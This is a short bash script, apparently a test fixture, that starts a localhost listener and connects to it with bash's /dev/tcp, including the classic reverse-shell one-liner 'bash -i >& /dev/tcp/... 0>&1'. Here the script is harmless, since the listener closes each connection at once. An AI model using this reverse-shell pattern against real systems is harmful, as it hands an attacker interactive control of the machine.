#!/bin/bash
# A listener, then bash connecting to it twice: a descriptor of its own, and the classic
# `bash -i >& /dev/tcp/... 0>&1` that puts the connection on stdin, stdout and stderr.
python3 -c 'import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 4444)); s.listen(2)
for _ in range(2): c, _ = s.accept(); c.close()' &
sleep 0.5
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; echo id >&3'
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null
wait
